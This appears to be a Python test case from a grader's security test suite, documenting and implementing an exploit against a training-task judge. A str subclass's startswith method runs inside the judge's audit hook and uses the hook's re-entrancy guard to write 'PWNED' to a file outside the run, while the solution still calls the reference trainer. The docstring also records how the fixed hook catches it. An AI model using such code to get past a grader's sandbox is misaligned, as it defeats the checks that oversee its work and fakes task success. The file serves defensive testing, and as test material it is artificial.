"""EXPLOIT: the audit hook ran the solution's own code while it checked an event: it read
a `str` subclass's path through the subclass's methods (`startswith`, in
`os.path.isabs`), and while the hook is busy its re-entrancy guard lets every event
through unchecked. So the subclass's method writes a file outside the run from inside the
hook, and the path it was asked about (the work directory's scratch.txt) is allowed. Only
builtins are used: the static scan has nothing to refuse. The target's path is in
`victim.txt` beside this file (the test writes it).
Caught by: the audit hook, which reads plain str/bytes/int arguments only, refuses any
other, and while busy lets through only the events its own code raises."""

from baseline.train import train as reference_train

VICTIM = open(__file__.rsplit("/", 1)[0] + "/victim.txt").read().strip()


class Sneaky(str):
    """A path whose `startswith` runs inside the judge's audit hook."""

    def startswith(self, *args):
        try:
            with open(VICTIM, "w") as f:
                f.write("PWNED")
            print("REENTRY WRITE", flush=True)
        except OSError as e:
            print(f"REENTRY FAILED {type(e).__name__}: {e}", flush=True)
        return str.startswith(str(self), *args)


def train(cfg, init, tokens, batches):
    try:
        with open(Sneaky("scratch.txt"), "w") as f:
            f.write("scratch")
    except (OSError, RuntimeError) as e:
        print(f"OPEN REFUSED {type(e).__name__}: {e}", flush=True)
    return reference_train(cfg, init, tokens, batches)
